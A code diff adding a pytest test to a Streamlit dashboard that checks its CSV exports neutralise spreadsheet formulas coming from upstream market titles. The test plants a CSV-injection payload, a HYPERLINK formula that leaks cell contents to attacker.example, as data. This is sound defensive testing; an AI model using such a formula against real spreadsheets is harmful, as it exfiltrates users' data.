@@ -38,3 +38,29 @@ def test_text_filter_and_summary_first(world):
     at.text_input(key="fresh_wallet_trades_filter").input("day before resolution").run()
     frame = _tab_frames(at)[0]
     assert frame["evidence_words"].tolist() == ["new wallet bet $15,500 on YES a day before resolution"]
+
+
+def test_csv_export_neutralises_formulas_from_upstream_titles(world, monkeypatch):
+    import csv
+    import io
+
+    import streamlit
+
+    formula = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")'
+    with psycopg.connect(world.url, autocommit=True) as conn:
+        conn.execute("update markets set question = %s", (formula,))
+    exported: dict[str, bytes] = {}
+    real = streamlit.download_button
+
+    def recording(label, data, *args, **kwargs):
+        exported[kwargs["file_name"]] = data
+        return real(label, data, *args, **kwargs)
+
+    monkeypatch.setattr(streamlit, "download_button", recording)
+    open_page("signals")
+
+    rows = list(csv.DictReader(io.StringIO(exported["fresh_wallet_trades.csv"].decode())))
+    assert rows and all(r["market"] == "'" + formula for r in rows)
+    for data in exported.values():
+        for row in csv.reader(io.StringIO(data.decode())):
+            assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for cell in row), row
